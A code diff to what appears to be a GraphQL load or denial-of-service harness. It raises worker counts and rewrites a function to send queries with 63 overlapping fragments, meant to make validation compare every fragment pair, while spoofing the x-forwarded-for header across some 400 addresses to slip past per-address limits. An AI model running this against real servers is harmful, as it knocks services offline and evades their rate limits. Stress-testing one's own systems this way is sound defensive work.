@@ -61,7 +61,7 @@ const ATTACKS: Readonly<Record<AttackName, { workers: number; turn(attacker: Att
   rules: { workers: 4, turn: sendToRules },
   bodies: { workers: 30, turn: holdBody },
   subscriptions: { workers: 20, turn: subscribe },
-  documents: { workers: 16, turn: sendDocument },
+  documents: { workers: 64, turn: sendDocument },
   guests: { workers: 24, turn: writeAsGuest },
 }
 
@@ -138,10 +138,27 @@ function subscribe({ url, admin }: Attacker): Promise<string> {
   })
 }
 
-/** Never the same twice, and as large as one may be. */
-function sendDocument({ url }: Attacker): Promise<string> {
-  const fields = Array.from({ length: 300 }, (_, index) => `f${index}: id`).join(' ')
-  return ask(url, null, `query Q${++count} { me { ${fields} } } #${'x'.repeat(30_000)}`)
+const USER_FIELDS = 'id email avatar createdAt displayName familyName givenName lastLogin role name'
+const FRAGMENTS = Array.from({ length: 63 }, (_, index) => `F${index}`)
+const FRAGMENTS_OF_USER = FRAGMENTS.map((name) => `fragment ${name} on User { ${USER_FIELDS} }`).join(' ')
+
+/**
+ * Never the same twice, and as costly as one may be: validation compares the fields of all pairs of fragments. Each is
+ * sent from another one of 400 networks.
+ */
+async function sendDocument({ url }: Attacker): Promise<string> {
+  count += 1
+  const response = await fetch(`${url}/graphql`, {
+    method: 'POST',
+    signal: ending.signal,
+    headers: {
+      'content-type': 'application/json',
+      'x-forwarded-for': `203.0.${count % 200}.${(count >> 3) % 2}`,
+    },
+    body: JSON.stringify({ query: `query Q${count} { me { ...${FRAGMENTS.join(' ...')} } } ${FRAGMENTS_OF_USER}` }),
+  })
+  const { errors } = (await response.json()) as { errors?: { extensions?: { code?: string } }[] }
+  return errors?.[0]?.extensions?.code ?? String(response.status)
 }
 
 const guests = new Map<number, { token: string; conversation: string }>()
